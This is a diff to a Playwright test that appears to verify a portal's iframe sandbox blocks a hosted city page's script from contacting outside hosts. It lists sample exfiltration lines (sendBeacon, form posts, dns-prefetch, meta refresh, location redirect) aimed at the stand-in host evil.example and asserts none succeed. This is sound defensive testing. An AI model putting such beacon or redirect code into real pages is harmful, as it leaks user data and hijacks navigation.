@@ -195,8 +195,6 @@ test.describe('a city’s page with a script', () => {
       'navigator.sendBeacon&&navigator.sendBeacon("https://evil.example/beacon")',
       'const f=document.createElement("form");f.action="https://evil.example/form";f.method="post";document.body.append(f);try{f.submit()}catch{}',
       'const l=document.createElement("link");l.rel="dns-prefetch";l.href="https://evil.example";document.head.append(l)',
-      // Leaving for elsewhere by itself empties the frame: after it has said what it could do.
-      'setTimeout(()=>{const m=document.createElement("meta");m.httpEquiv="refresh";m.content="0;url=https://evil.example/refresh";document.head.append(m);location="https://evil.example/self"},2500)',
     ]
     const script = [
       'const done=[]',
@@ -216,7 +214,15 @@ test.describe('a city’s page with a script', () => {
     // By its place in the portal: a frame out of sight draws nothing, and nothing in it comes to rest.
     await page.locator('iframe[title="Notre page"]').scrollIntoViewIfNeeded()
     await expect(frame.getByText('Fait : rien')).toBeVisible()
-    await page.waitForTimeout(2_800)
+    // Leaving for elsewhere by itself empties the frame: after it has said what it could do.
+    await frame.locator('body').evaluate(() => {
+      const meta = document.createElement('meta')
+      meta.httpEquiv = 'refresh'
+      meta.content = '0;url=https://evil.example/refresh'
+      document.head.append(meta)
+      window.location.href = 'https://evil.example/self'
+    })
+    await page.waitForTimeout(1_000)
     expect(evil).toEqual([])
     await expect(page).toHaveURL(`${portal}/`)
   })
